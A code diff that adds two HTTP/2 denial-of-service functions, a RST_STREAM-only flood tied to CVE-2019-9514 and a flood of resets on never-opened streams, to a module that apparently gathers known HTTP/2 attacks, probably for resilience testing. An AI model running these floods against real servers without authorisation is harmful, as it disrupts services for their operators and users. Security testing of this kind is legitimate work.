@@ -31,6 +31,17 @@ def reset_running_calls(address, turns=30_000):
     return flood(address, piece, turns)
 
 
+def resets_only(address, turns=60_000):
+    """CVE-2019-9514: nothing but RST_STREAM, on one stream that ended long ago."""
+    begin = _open(0) + frame(RST_STREAM, 0, 1, CANCEL)
+    return flood(address, lambda n: frame(RST_STREAM, 0, 1, CANCEL), turns, begin=begin, batch=500)
+
+
+def resets_of_idle_streams(address, turns=2_000):
+    """RST_STREAM on streams that were never opened, which is an error of the connection."""
+    return flood(address, lambda n: frame(RST_STREAM, 0, 2 * n + 1, CANCEL), turns)
+
+
 def window_overflow(address, turns=2_000):
     """CVE-2025-8671: a WINDOW_UPDATE makes the server reset the stream."""
     overflow = struct.pack(">I", 0x7FFFFFFF)
@@ -63,6 +74,6 @@ def settings_overflow(address):
 
 
 ALL = [
-    rapid_reset, reset_running_calls, window_overflow, wrong_content_length, data_on_ended_streams,
+    rapid_reset, reset_running_calls, resets_only, resets_of_idle_streams, window_overflow, wrong_content_length, data_on_ended_streams,
     settings_overflow,
 ]  # fmt: skip
